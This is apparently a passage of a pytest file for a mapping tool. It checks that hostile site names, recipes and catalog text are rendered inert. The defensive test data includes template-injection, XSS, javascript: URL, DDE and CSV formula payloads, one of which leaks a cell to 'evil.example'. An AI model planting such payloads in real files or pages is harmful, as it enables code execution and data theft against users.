"""Text from data files, recipes and the catalog arrives in every output as inert text (issue 18).

Site names, commodities, states, layer names, recipe names, dataset titles and licences are
untrusted.  The payloads of ``tests/_payloads.py`` (Jinja2, HTML, JavaScript, Markdown, CSV
formulas, mathtext) are put into every text field that reaches ``map.html``, ``report.md``, the
GeoPackage, CSV/GeoJSON and the figures, and must come out as the same text: nothing executed
(no marker file, no ``window.__pwned``, no ``49`` for ``{{7*7}}``), the map opened in headless
Chromium shows the literal text, CSV formula cells are neutralized, GDAL reads the text back
unchanged.

The property tests use small synthetic inputs; the regression tests at the end run the real
``geomap build`` on a coarse grid with a hostile data file, recipe and catalog.
"""

from __future__ import annotations

import ast
import csv
import hashlib
import importlib
import inspect
import io
import json
import os
import pkgutil
import re
import shutil
import sqlite3
import unicodedata
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import rioxarray  # noqa: F401 - registers the .rio accessor
import shapely
import xarray as xr
import yaml
from _actionable import assert_actionable
from _browser import _open
from _payloads import FIXED_PAYLOADS, PWNED_ENV, all_payloads, executed, squash, touch
from hypothesis import HealthCheck, Phase, example, given, settings
from hypothesis import strategies as st

from geomap.catalog import load_catalog
from geomap.core.safe_text import (
    csv_safe_frame,
    http_url,
    markdown_code,
    markdown_text,
    neutralize_formula,
    terminal_text,
    write_csv,
)
from geomap.errors import CatalogError
from geomap.render._elements import safe_json

ROOT = Path(__file__).resolve().parents[1]

# text around the payloads: printable characters of every script, no control characters
# (HTML turns NUL and lone CR into other characters; GeoPackage text is UTF-8)
_TEXT = st.text(
    st.characters(
        blacklist_categories=("Cs", "Cc"),
        blacklist_characters="\ufffe\uffff",
        max_codepoint=0x2FFFF,
    ),
    max_size=12,
)


def hostile_text(folder: Path) -> st.SearchStrategy[str]:
    """A payload (or two) surrounded by arbitrary text; never blank."""
    payload = st.sampled_from(all_payloads(folder))
    return st.builds(
        lambda a, p, b, q: f"{a}{p}{b}{q}".strip() or p.strip() or "x",
        _TEXT,
        payload,
        _TEXT,
        st.one_of(st.just(""), payload),
    )


@pytest.fixture(autouse=True)
def _no_leftover_env():
    os.environ.pop(PWNED_ENV, None)
    yield
    os.environ.pop(PWNED_ENV, None)


# ============================================================ helpers


def _catalog_with(text: dict[str, str], *, licence_url: str | None = None) -> Any:
    """The project catalog, with one dataset's title, publisher, citation and licence replaced.

    ``model_copy`` skips validation on purpose: the renderers must stay safe even for a
    catalog object built in Python (the loader refuses a non-http(s) licence URL).
    """
    catalog = load_catalog()
    original = catalog.dataset("natural-earth")
    licence = original.license.model_copy(
        update={"name": text["licence"], "attribution": text["attribution"], "url": licence_url}
    )
    dataset = original.model_copy(
        update={
            "title": text["title"],
            "publisher": text["publisher"],
            "citation": text["citation"],
            "license": licence,
        }
    )
    datasets = [dataset if d.id == original.id else d for d in catalog.datasets]
    return catalog.model_copy(update={"datasets": datasets})


def _synthetic_layers(text: dict[str, str]) -> dict[str, Any]:
    points = [shapely.Point(139.0 + 0.05 * i, 36.0 + 0.03 * i) for i in range(3)]
    occurrences = gpd.GeoDataFrame(
        {
            "name": [text["site"], "Plain site", text["site2"]],
            "commodities": [["REE", text["commodity"]], ["Cu"], ["Zn"]],
            "deposit_type": [text["deposit"], None, "VMS"],
            "state": [text["state"], "Akita", None],
            "country": ["JPN", "JPN", "JPN"],
            "dataset_id": ["natural-earth"] * 3,
            "record_id": ["r1", "r2", text["record"]],
        },
        geometry=points,
        crs="EPSG:4326",
    )
    faults = gpd.GeoDataFrame(
        {"name": [text["fault"]], "slip_type": [text["slip"]]},
        geometry=[shapely.LineString([(138.9, 35.9), (139.2, 36.2)])],
        crs="EPSG:4326",
    )
    geology = gpd.GeoDataFrame(
        {"lithology_class": [text["lithology"], "granite"]},
        geometry=[shapely.box(138.8, 35.8, 139.0, 36.0), shapely.box(139.0, 35.8, 139.2, 36.0)],
        crs="EPSG:4326",
    )
    x = 15_470_000 + 2_000 * np.arange(10)
    y = 4_310_000 - 2_000 * np.arange(8)
    raster = xr.DataArray(
        np.linspace(0, 1, 80, dtype="float32").reshape(8, 10),
        dims=("y", "x"),
        coords={"y": y, "x": x},
        name="score",
    ).rio.write_crs("EPSG:3857")
    table = pd.DataFrame({"region": [text["table_cell"]], "n": [3]})
    return {
        "occurrences": occurrences,
        "faults": faults,
        "geology": geology,
        "raster": raster,
        "table": table,
    }


def _hostile_map(path: Path, text: dict[str, str], *, licence_url: str | None = None) -> Any:
    from geomap.render.maps import MapBuilder

    layers = _synthetic_layers(text)
    builder = MapBuilder(
        title=text["title_map"],
        subtitle=text["subtitle"],
        catalog=_catalog_with(text, licence_url=licence_url),
        basemap=False,
        online_basemaps=False,
    )
    builder.add_raster(layers["raster"], kind="evidence", name=text["raster"], units=text["units"])
    builder.add_occurrences(layers["occurrences"], name=text["occ_layer"])
    builder.add_faults(layers["faults"], name=text["fault_layer"])
    builder.add_geology(layers["geology"], name=text["geology_layer"], show=True)
    builder.add_table(layers["table"], title=text["table_title"])
    builder.add_datasets(["natural-earth"])
    builder.save(path)
    return builder


MAP_FIELDS = [
    "site",
    "site2",
    "commodity",
    "deposit",
    "state",
    "record",
    "fault",
    "slip",
    "lithology",
    "table_cell",
    "title_map",
    "subtitle",
    "raster",
    "units",
    "occ_layer",
    "fault_layer",
    "geology_layer",
    "table_title",
    "title",
    "publisher",
    "citation",
    "licence",
    "attribution",
]

# every text the page can show: title, panels, legend, layer control, attribution, and the
# popups and tooltips of every layer (built by calling their content functions)
COLLECT_TEXT_JS = """() => {
    const texts = [document.title];
    const shown = '.geomap-title, .geomap-panel, .leaflet-control-layers, '
        + '.leaflet-control-attribution';
    for (const el of document.querySelectorAll(shown)) {
        texts.push(el.textContent);
    }
    const ctl = window[Object.keys(window).find(k => k.startsWith('grouped_layers_'))];
    const grab = (layer, owner) => {
        const popup = owner.getPopup && owner.getPopup();
        if (popup && typeof popup._content === 'function') {
            texts.push(popup._content(layer).textContent);
        }
        const tip = owner.getTooltip && owner.getTooltip();
        if (tip && typeof tip._content === 'function') {
            texts.push(tip._content(layer).textContent);
        }
    };
    for (const entry of ctl._layers) {
        const layer = entry.layer;
        if (window.L.MarkerClusterGroup && layer instanceof L.MarkerClusterGroup) {
            for (const marker of layer.getLayers()) { grab(marker, layer); }
        } else if (layer.eachLayer) {
            layer.eachLayer(sub => grab(sub, sub));
        }
    }
    return texts;
}"""

PAGE_SAFETY_JS = """() => ({
    pwned: window.__pwned === undefined ? null : String(window.__pwned),
    scripts: document.querySelectorAll('script').length,
    images: document.querySelectorAll('img:not(.leaflet-image-layer)').length,
    links: Array.from(document.querySelectorAll('a[href]')).map(a => a.getAttribute('href')),
})"""


def _check_map_page(browser: Any, path: Path, expected: list[str]) -> None:
    html_text = path.read_text(encoding="utf-8")
    for delimiter in ("{{", "{%", "{#"):
        assert delimiter not in html_text, f"{delimiter!r} reached map.html"
    visit = _open(browser, path, wait_ms=300)
    try:
        safety = visit.js(PAGE_SAFETY_JS)
        assert safety["pwned"] is None, f"a payload ran: window.__pwned={safety['pwned']}"
        assert visit.page_errors == [], visit.page_errors
        assert visit.blocked == [], visit.blocked
        bad_links = [h for h in safety["links"] if not h.startswith(("http://", "https://", "#"))]
        assert bad_links == [], bad_links
        shown = squash("\n".join(visit.js(COLLECT_TEXT_JS)))
        for text in expected:
            assert squash(text) in shown, f"{text!r} is not shown literally on the map"
    finally:
        visit.page.context.close()


# ============================================================ map.html


@pytest.mark.browser
@settings(
    max_examples=6,
    deadline=None,
    phases=[Phase.explicit, Phase.reuse, Phase.generate],  # no shrinking: a browser per try
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(data=st.data())
def test_property_map_text_arrives_as_inert_text(browser, tmp_path_factory, data):
    folder = tmp_path_factory.mktemp("map_property")
    text = {f: data.draw(hostile_text(folder), label=f) for f in MAP_FIELDS}
    path = folder / "map.html"
    builder = _hostile_map(path, text)
    assert executed(folder) == []
    # layer names reach the layer control as text too
    assert text["occ_layer"] in " ".join(builder.layer_names)
    expected = [text[f] for f in MAP_FIELDS if f != "table_cell"]
    # pandas' to_html shows control characters in a table cell as escapes ("\r" -> "\\r")
    expected.append(text["table_cell"].translate({9: "\\t", 10: "\\n", 13: "\\r"}))
    _check_map_page(browser, path, expected)
    assert executed(folder) == []


@pytest.mark.browser
def test_every_payload_in_every_map_field_is_shown_literally(browser, tmp_path):
    """All payloads at once, each in every field (the deterministic counterpart)."""
    payloads = all_payloads(tmp_path)
    text = {f: " ".join(payloads) for f in MAP_FIELDS}
    text["site2"] = touch(tmp_path / "pwned_site2")
    path = tmp_path / "map.html"
    _hostile_map(path, text)
    assert executed(tmp_path) == []
    _check_map_page(browser, path, [text["site"], text["site2"], text["title_map"]])


@pytest.mark.parametrize(
    "site", ["ZZ{{7*7}}ZZ", "{% if", "{% if %}", "{{ '}}' }}", "{#", "{{ \"quoted\" }} 'single'"]
)
@pytest.mark.parametrize("field", ["site", "title_map", "occ_layer", "title"])
def test_template_syntax_in_map_text_is_text(tmp_path, site, field):
    """``{{7*7}}`` stays ``{{7*7}}`` (not 49); ``{% if`` and quotes no longer crash the map."""
    text = dict.fromkeys(MAP_FIELDS, "plain")
    text[field] = site
    path = tmp_path / "map.html"
    _hostile_map(path, text)
    page = path.read_text(encoding="utf-8")
    assert "{{" not in page and "{%" not in page and "{#" not in page
    assert "ZZ49ZZ" not in page  # {{7*7}} was not evaluated
    if field == "site":  # in the data: JSON with the braces escaped
        assert json.dumps(site)[1:-1].replace("{", "\\u007b").replace("}", "\\u007d") in page


def test_touch_payload_in_a_site_name_does_not_run(tmp_path):
    """The reported case: the site name ``{{ cycler...os.system('touch ...') }}``."""
    text = dict.fromkeys(MAP_FIELDS, "plain")
    text["site"] = touch(tmp_path / "pwned_site")
    text["title_map"] = touch(tmp_path / "pwned_title")  # the title takes another path
    _hostile_map(tmp_path / "map.html", text)
    assert executed(tmp_path) == []


@pytest.mark.browser
def test_javascript_licence_url_never_becomes_a_link(browser, tmp_path):
    text = dict.fromkeys(MAP_FIELDS, "plain")
    path = tmp_path / "map.html"
    _hostile_map(path, text, licence_url="javascript:window.__pwned=9")
    page = path.read_text(encoding="utf-8")
    assert "javascript:" not in page.split("Sources and licences", 1)[1]
    visit = _open(browser, path, wait_ms=300)
    try:
        links = visit.js(PAGE_SAFETY_JS)["links"]
        assert not [h for h in links if "javascript" in h.lower()], links
        assert visit.js("document.querySelectorAll('.geomap-panel a').length") == 0
    finally:
        visit.page.context.close()
    # an https licence URL is still a link (control)
    _hostile_map(path, text, licence_url="https://creativecommons.org/licenses/by/4.0/")
    page = path.read_text("utf-8")  # the panel's HTML is a JSON string in the page
    assert 'href=\\"https://creativecommons.org/licenses/by/4.0/\\"' in page


def test_no_geomap_map_element_lets_branca_reparse_its_output():
    """Every folium/branca element class in ``geomap.render`` renders literally.

    branca's ``MacroElement.render`` compiles each rendered macro as a new Jinja2 template;
    geomap's elements derive from ``LiteralRender`` instead.  A new element that forgets it
    (or a ``folium.Element(text)`` / ``Template(text)`` built from text) fails here.
    """
    from branca.element import MacroElement

    import geomap.render as render_package
    from geomap.render._elements import LiteralRender

    offenders = []
    for module_info in pkgutil.iter_modules(render_package.__path__):
        module = importlib.import_module(f"geomap.render.{module_info.name}")
        for name, cls in inspect.getmembers(module, inspect.isclass):
            if cls.__module__ != module.__name__ or not issubclass(cls, MacroElement):
                continue
            if not issubclass(cls, LiteralRender):
                offenders.append(f"{module.__name__}.{name}")
    assert offenders == []
    assert _element_from_text_calls() == []


def _element_from_text_calls() -> list[str]:
    """Calls that build a branca/folium ``Element`` or ``Template`` from non-constant text."""
    found = []
    for path in sorted((ROOT / "geomap").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        branca_names = {
            alias.asname or alias.name
            for node in ast.walk(tree)
            if isinstance(node, ast.ImportFrom)
            and (node.module or "").split(".")[0] in ("branca", "folium")
            for alias in node.names
        }
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call) or not node.args:
                continue
            func = node.func
            name = (
                func.id
                if isinstance(func, ast.Name) and func.id in branca_names
                else func.attr
                if isinstance(func, ast.Attribute)
                and isinstance(func.value, ast.Name)
                and func.value.id in ("folium", "branca", "element")
                else None
            )
            if name not in ("Element", "Template"):
                continue
            if not isinstance(node.args[0], ast.Constant):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}: {ast.unparse(node)[:80]}")
    return found


@given(
    st.recursive(
        st.text() | st.sampled_from(FIXED_PAYLOADS) | st.integers() | st.none(),
        lambda children: st.lists(children, max_size=3),
    )
)
def test_property_safe_json_round_trips_without_template_or_html_delimiters(value):
    encoded = safe_json({"value": value, "nested": [{"k": value}]})
    assert json.loads(encoded) == {"value": value, "nested": [{"k": value}]}
    for delimiter in ("{{", "{%", "{#", "<", ">", "&", "\u2028", "\u2029"):
        assert delimiter not in encoded


# ============================================================ report.md (Markdown)


class _Rendered(HTMLParser):
    """Tags and text of rendered Markdown (entities decoded)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _render_markdown(text: str) -> _Rendered:
    from markdown_it import MarkdownIt

    renderer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parsed = _Rendered()
    parsed.feed(renderer.render(text))
    return parsed


SAFE_MARKDOWN_TAGS = {
    "h1", "h2", "h3", "p", "ul", "li", "code", "strong", "em",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


def _report(text: dict[str, str]) -> str:
    from geomap.pipeline.report import build_report

    layers = pd.DataFrame(
        {
            "layer": [text["layer"], "plain_layer"],
            "role": ["evidence", "evidence"],
            "kind": [text["kind"], "distance"],
            "units": [text["units"], "m"],
            "min": [-105.2, 0.0],
            "max": [1.0, 2.0],
            "cells_with_data_pct": [50.0, 100.0],
            "description": [text["recipe"], ""],
        }
    )
    targets = pd.DataFrame(
        {
            "rank": [1, 2],
            "area_km2": [10.0, 5.0],
            "mean_prospectivity": [0.9, 0.8],
            "n_occurrences": [1, 0],
            "nearest_occurrence": [text["site"], "plain"],
            "state": [text["state"], "CO"],
        }
    )
    return build_report(
        recipe=SimpleNamespace(
            name=text["recipe"], mineral_system=text["system"], id="evil", path=text["path"]
        ),
        region=SimpleNamespace(name=text["region"], id="japan"),
        resolution_m=50_000.0,
        model_name="wofe",
        metrics={
            "estimator": text["estimator"],
            "spatial_cv": {"auc": {"held_out": 0.5}},
            "diagnostics": {"weak_result_reasons": [text["reason"]]},
            "warnings": [text["warning"]],
        },
        layers=layers,
        targets=targets,
        coverage=None,
        datasets=[{"id": "natural-earth", "title": text["title"], "license": text["licence"]}],
        attribution=f"{text['attribution']}\n\n{text['title']}",
        settings={"top_percent": 2.0, "min_area_km2": 1.0},
    )


REPORT_FIELDS = [
    "recipe", "system", "path", "region", "estimator", "layer", "kind", "units",
    "site", "state", "reason", "warning", "title", "licence", "attribution",
]  # fmt: skip


_UNESCAPED_LINK = re.compile(r"(?<!\\)\]\(")


def _check_report(report: str, text: dict[str, str], fields: list[str]) -> None:
    for raw in ("<script", "<img", "<svg", "<a "):
        assert raw not in report.lower(), f"raw {raw!r} in report.md"
    assert not _UNESCAPED_LINK.search(report), "a Markdown link in report.md"
    rendered = _render_markdown(report)
    tags = {tag for tag, _ in rendered.tags}
    assert tags <= SAFE_MARKDOWN_TAGS, f"payload made {tags - SAFE_MARKDOWN_TAGS}"
    shown = squash(" ".join(rendered.text))
    for field in fields:
        assert squash(text[field]) in shown, f"{field} {text[field]!r} not shown literally"


@settings(max_examples=40, deadline=None, phases=[Phase.explicit, Phase.reuse, Phase.generate])
@given(data=st.data())
def test_property_report_shows_hostile_text_literally(data, tmp_path_factory):
    folder = tmp_path_factory.mktemp("report_property")
    text = {f: data.draw(hostile_text(folder), label=f) for f in REPORT_FIELDS}
    _check_report(_report(text), text, REPORT_FIELDS)
    assert executed(folder) == []


def test_report_escapes_html_and_markdown_from_site_state_and_recipe_names(tmp_path):
    text = dict.fromkeys(REPORT_FIELDS, "plain")
    text.update(
        recipe="<script>window.__pwned=1</script> [x](javascript:alert(1))",
        site='"><img src=x onerror="window.__pwned=2">',
        state="<script>alert(1)</script>",
        title="![i](javascript:alert(1)) <b>bold</b>",
        region="a | b `c`",
    )
    report = _report(text)
    _check_report(report, text, list(text))
    assert "# &lt;script&gt;window.\\_\\_pwned=1&lt;/script&gt; \\[x\\](javascript:" in report


@settings(max_examples=20, deadline=None, phases=[Phase.explicit, Phase.reuse, Phase.generate])
@given(data=st.data())
def test_property_packet_summary_shows_hostile_text_literally(data, tmp_path_factory):
    from geomap.pipeline.packet import _summary_markdown

    folder = tmp_path_factory.mktemp("packet_property")
    text = {
        f: data.draw(hostile_text(folder), label=f) for f in ("title", "region", "top", "credit")
    }
    summary = pd.DataFrame(
        {
            "region": ["japan", "conus"],
            "region_name": [text["region"], "Conterminous US"],
            "held_out_auc": [0.79, float("nan")],
            "top_targets": [text["top"], "#1 CO (12 km²)"],
        }
    )
    report = _summary_markdown(text["title"], summary, f"A credit.\n\n{text['credit']}")
    _check_report(report, text, list(text))
    rendered = _render_markdown(report)
    assert sum(1 for tag, _ in rendered.tags if tag == "td") == 8  # no cell split or added


@given(_TEXT | st.sampled_from(FIXED_PAYLOADS))
def test_property_markdown_helpers_render_exactly_the_text(value):
    for_text = _render_markdown(f"Before {markdown_text(value)} after")
    assert {t for t, _ in for_text.tags} <= {"p"}
    assert squash("".join(for_text.text)) == squash(f"Before {value} after")
    for_code = _render_markdown(f"Before {markdown_code(value)} after")
    assert {t for t, _ in for_code.tags} <= {"p", "code"}


# ============================================================ CSV


_PLAIN_NUMBER_TEXT = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?\n?")


def _read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@given(st.lists(st.one_of(st.sampled_from(FIXED_PAYLOADS), st.text(max_size=20)), min_size=1))
@example(["-0", "+3", "-1e", "-0\n", "-"])  # numbers as text stay; the rest is neutralized
def test_property_csv_cells_are_neutralized_and_numbers_stay_numbers(values):
    frame = pd.DataFrame(
        {"text": values, "lon": [-105.2] * len(values), "n": list(range(-1, len(values) - 1))}
    )
    rows = _read_csv(str(write_csv(frame)))
    assert len(rows) == len(values)
    for row, original in zip(rows, values, strict=True):
        cell = row["text"]
        if _PLAIN_NUMBER_TEXT.fullmatch(original):  # "-0", "+3", "1e-5": numbers run nothing
            assert cell == original
        elif original.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell == "'" + original
        else:
            assert cell == original
        assert float(row["lon"]) == -105.2  # numbers are not touched
    assert [int(r["n"]) for r in rows] == list(range(-1, len(values) - 1))


def test_csv_formula_cells_get_a_quote_and_numbers_do_not():
    assert neutralize_formula('=HYPERLINK("http://evil.example/?leak="&A1,"x")').startswith("'=")
    for value in ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"):
        assert neutralize_formula(value) == "'" + value
    for value in ("-105.2", "+3", "1e-5", "-.5", "Kuroko", "", "a=b"):
        assert neutralize_formula(value) == value
    frame = pd.DataFrame(
        {
            "name": pd.Series(["=1+1", None, "ok"], dtype="string"),
            "group": pd.Categorical(["@x", "y", "@x"]),
            "mixed": ["-x", 3.5, None],
            "=evil_header": [1, 2, 3],
        }
    )
    safe = csv_safe_frame(frame)
    assert safe["name"].tolist()[0] == "'=1+1" and pd.isna(safe["name"].tolist()[1])
    assert safe["group"].tolist() == ["'@x", "y", "'@x"]
    assert safe["mixed"].tolist()[:2] == ["'-x", 3.5]
    assert list(safe.columns)[-1] == "'=evil_header"
    assert frame["name"].tolist()[0] == "=1+1"  # the input is not modified


def test_every_csv_writer_goes_through_the_neutralizing_helper():
    """No ``to_csv`` in geomap outside ``geomap/core/safe_text.py``.

    The ``geomap/testing`` package is left out: it writes synthetic *input* files in the
    official sources' layouts for tests, never an export.
    """
    offenders = [
        f"{path.relative_to(ROOT)}:{i}"
        for path in sorted((ROOT / "geomap").rglob("*.py"))
        if path.relative_to(ROOT).as_posix() != "geomap/core/safe_text.py"
        and not path.relative_to(ROOT).as_posix().startswith("geomap/testing/")
        for i, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1)
        if ".to_csv(" in line and not line.lstrip().startswith("#")
    ]
    assert offenders == []


# ============================================================ links and the catalog


def test_only_http_urls_are_links():
    for good in ("https://example.org/x", "http://example.org", "HTTPS://EXAMPLE.ORG/"):
        assert http_url(good) == good
    for bad in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "//evil.example/x",
        "/relative",
        "https://",
        "https://exa mple.org",
        "https://example.org/\nx",
        None,
        "",
    ):
        assert http_url(bad) is None, bad


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("license.url", "javascript:alert(document.domain)"),
        ("license.url", "data:text/html,<script>alert(1)</script>"),
        ("landing_page", "javascript:alert(1)"),
        ("landing_page", "file:///etc/passwd"),
    ],
)
def test_catalog_refuses_non_http_links(tmp_path, field, value):
    raw = yaml.safe_load((ROOT / "data_catalog.yaml").read_text(encoding="utf-8"))
    entry = raw["datasets"][0]
    if field == "license.url":
        entry["license"]["url"] = value
    else:
        entry["landing_page"] = value
    path = tmp_path / "catalog.yaml"
    path.write_text(yaml.safe_dump(raw, sort_keys=False, allow_unicode=True), encoding="utf-8")
    with pytest.raises(CatalogError) as info:
        load_catalog(path)
    assert_actionable(info, "catalog.yaml", value[:10], "http(s)")


# ============================================================ figures


def test_figure_titles_are_shown_as_written(tmp_path):
    """``$...$`` in a recipe or region name is not mathtext (which could also break drawing)."""
    from matplotlib.text import Text

    from geomap.render.figures import plot_prospectivity

    raster = _synthetic_layers(dict.fromkeys(MAP_FIELDS, "x"))["raster"]
    for title in (r"Kuroko $\undefinedcommand{$ VMS", "$x^2$ <b>{{7*7}}</b>", r"$\sqrt{2}$ and $"):
        fig = plot_prospectivity(raster, tmp_path / "p.png", title=title)
        texts = [t for t in fig.findobj(Text) if t.get_text() == title]
        assert texts, "the title is missing"
        assert all(not t.get_parse_math() and not t.get_usetex() for t in fig.findobj(Text))
        assert (tmp_path / "p.png").stat().st_size > 0


# ============================================================ GeoPackage


@settings(max_examples=5, deadline=None, phases=[Phase.explicit, Phase.reuse, Phase.generate])
@given(data=st.data())
def test_property_geopackage_keeps_hostile_text_unchanged(data, tmp_path_factory):
    from geomap.export.gpkg import write_geopackage

    folder = tmp_path_factory.mktemp("gpkg_property")
    names = [data.draw(hostile_text(folder), label=f"name{i}") for i in range(3)]
    frame = gpd.GeoDataFrame(
        {"name": names, "state": names[::-1], "lon": [-105.2, -105.1, -105.0]},
        geometry=[shapely.Point(-105.2 + 0.1 * i, 39.7) for i in range(3)],
        crs="EPSG:4326",
    )
    path = folder / "out.gpkg"
    write_geopackage(
        path,
        vectors={"sites": frame},
        tables={"summary": pd.DataFrame({"recipe": names})},
        parameters={"recipe_name": names[0]},
    )
    back = pyogrio.read_dataframe(path, layer="sites")
    assert back["name"].tolist() == names and back["state"].tolist() == names[::-1]
    assert back["lon"].tolist() == [-105.2, -105.1, -105.0]
    assert pyogrio.read_dataframe(path, layer="summary")["recipe"].tolist() == names
    with sqlite3.connect(path) as con:
        metadata = [json.loads(m) for (m,) in con.execute("SELECT metadata FROM gpkg_metadata")]
    recorded = [m["parameters"]["recipe_name"] for m in metadata if "parameters" in m]
    assert recorded == [names[0]]
    assert executed(folder) == []


# ============================================================ the real `geomap build`


BUILD_RESOLUTION = "50000"


def _hostile_minmod(root: Path, names: list[str]) -> dict[str, tuple[str, int]]:
    """Copy the MinMod files holding Japanese sites, every such site renamed to a payload.

    Returns the new sha256 and size of each rewritten file (for the catalog).
    """
    catalog = load_catalog()
    mirror = ROOT.parent / "shared" / "data"
    changed: dict[str, tuple[str, int]] = {}
    count = 0
    for entry in catalog.dataset("minmod-usgs-mrdata").files:
        if entry.format != "minmod-json":
            continue
        source = mirror / entry.path
        records = json.loads(source.read_text(encoding="utf-8"))
        touched = False
        for record in records:
            countries = record.get("location_info", {}).get("country", [])
            if any(c.get("observed_name") == "Japan" for c in countries):
                record["name"] = f"{names[count % len(names)]} #{count}"
                for state in record["location_info"].get("state_or_province", []):
                    state["observed_name"] = names[(count + 1) % len(names)]
                count += 1
                touched = True
        if touched:
            target = root / entry.path
            target.parent.mkdir(parents=True, exist_ok=True)
            payload = json.dumps(records, ensure_ascii=False).encode("utf-8")
            target.write_bytes(payload)
            changed[entry.path] = (hashlib.sha256(payload).hexdigest(), len(payload))
    assert count > 20, "expected Japanese sites in the MinMod mirror"
    return changed


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    """``geomap build`` (CLI, 50 km Japan) with a hostile data file, recipe and catalog."""
    from typer.testing import CliRunner

    from geomap.cli import app

    work = tmp_path_factory.mktemp("hostile_build")
    markers = work / "markers"
    markers.mkdir()
    site_names = [
        touch(markers / "pwned_site"),
        touch(markers / "pwned_site_dq", quote='"'),
        "{{7*7}}",
        "{% if",
        "<script>window.__pwned=1</script>",
        '"><img src=x onerror="window.__pwned=2">',
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "[x](javascript:alert(1)) $x^2$",
        "@SUM(1,2)",
        "\x1b[2J\x1b[31mRED\x1b[0m \u202eevil",
    ]
    data_root = work / "data"
    changed = _hostile_minmod(data_root, site_names)
    raw = yaml.safe_load((ROOT / "data_catalog.yaml").read_text(encoding="utf-8"))
    for dataset in raw["datasets"]:
        if dataset["id"] == "minmod-usgs-mrdata":
            dataset["title"] = f"MinMod {touch(markers / 'pwned_catalog')} <script>x</script>"
            dataset["license"]["attribution"] = "{{7*7}} <img src=x onerror=alert(1)> [a](b)"
    # the file hashes live in the catalog's registry folder: a copy with the changed files' hashes
    registry = work / "registry"
    shutil.copytree(ROOT / raw["registry"], registry)
    raw["registry"] = "registry"
    prefix = "minmod-usgs-mrdata/"
    lines = (registry / "minmod-usgs-mrdata.txt").read_text(encoding="utf-8").splitlines()
    for i, line in enumerate(lines):
        fields = line.split()
        size_row = fields[:1] == ["#size"]
        name = fields[1] if size_row else (fields[0] if fields else "")
        if prefix + name in changed:
            digest, size = changed[prefix + name]
            lines[i] = f"#size {name} {size}" if size_row else f"{name} {digest}"
    (registry / "minmod-usgs-mrdata.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    catalog_path = work / "catalog.yaml"
    catalog_path.write_text(
        yaml.safe_dump(raw, sort_keys=False, allow_unicode=True), encoding="utf-8"
    )
    recipe = yaml.safe_load((ROOT / "layers" / "kuroko-vms.yaml").read_text(encoding="utf-8"))
    recipe_name = (
        f"{touch(markers / 'pwned_recipe')} <script>window.__pwned=3</script> "
        "[x](javascript:alert(1)) $x^2$ '\""
    )
    recipe["name"] = recipe_name
    recipe["mineral_system"] = f"{{{{7*7}}}} {touch(markers / 'pwned_system')} <b>x</b>"
    recipe["evidence"][0]["description"] = '=HYPERLINK("http://evil.example","x")'
    recipe_path = work / "evil-recipe.yaml"
    recipe_path.write_text(yaml.safe_dump(recipe, sort_keys=False), encoding="utf-8")
    out = work / "out"
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("GEOMAP_CATALOG", str(catalog_path))
        mp.setenv("GEOMAP_DATA_DIR", str(data_root))
        mp.setenv("GEOMAP_PRODUCT_CACHE", str(work / "products"))
        mp.setenv("GEOMAP_CACHE_DIR", str(work / "downloads"))
        runner = CliRunner()
        result = runner.invoke(
            app,
            [
                "build",
                str(recipe_path),
                "-r",
                "japan",
                "--resolution",
                BUILD_RESOLUTION,
                "-o",
                str(out),
            ],
        )
        occurrences = runner.invoke(
            app,
            ["occurrences", "--dataset", "minmod-usgs-mrdata", "-r", "japan", "--format", "csv"],
        )
        table = runner.invoke(
            app, ["occurrences", "--dataset", "minmod-usgs-mrdata", "-r", "japan"]
        )
    return SimpleNamespace(
        result=result,
        occurrences=occurrences,
        table=table,
        out=out,
        markers=markers,
        site_names=site_names,
        recipe_name=recipe_name,
    )


@pytest.mark.slow
def test_build_with_hostile_data_recipe_and_catalog_runs_no_payload(hostile_build):
    assert hostile_build.result.exit_code == 0, hostile_build.result.output
    assert executed(hostile_build.markers) == []
    sources = (
        (hostile_build.out / "map.html")
        .read_text(encoding="utf-8")
        .split("Sources and licences", 1)[1][:2000]
    )
    # The marker paths under pytest's numbered temporary folder may hold "49" themselves.
    sources = sources.replace(str(hostile_build.markers), "<markers>")
    assert "7*7" in sources
    assert "49" not in sources


@pytest.mark.slow
@pytest.mark.browser
def test_build_map_shows_hostile_site_and_recipe_names_as_text(browser, hostile_build):
    path = hostile_build.out / "map.html"
    _check_map_page(
        browser,
        path,
        [f"{hostile_build.site_names[0]} #0", hostile_build.recipe_name, "{{7*7}} #2"],
    )
    visit = _open(browser, path, wait_ms=300)
    try:
        title = visit.js("document.querySelector('.geomap-title').firstChild.textContent")
        assert title.startswith(hostile_build.recipe_name)
    finally:
        visit.page.context.close()


@pytest.mark.slow
def test_build_report_escapes_hostile_names(hostile_build):
    report = (hostile_build.out / "report.md").read_text(encoding="utf-8")
    for raw in ("<script", "<img"):
        assert raw not in report
    assert not _UNESCAPED_LINK.search(report)
    rendered = _render_markdown(report)
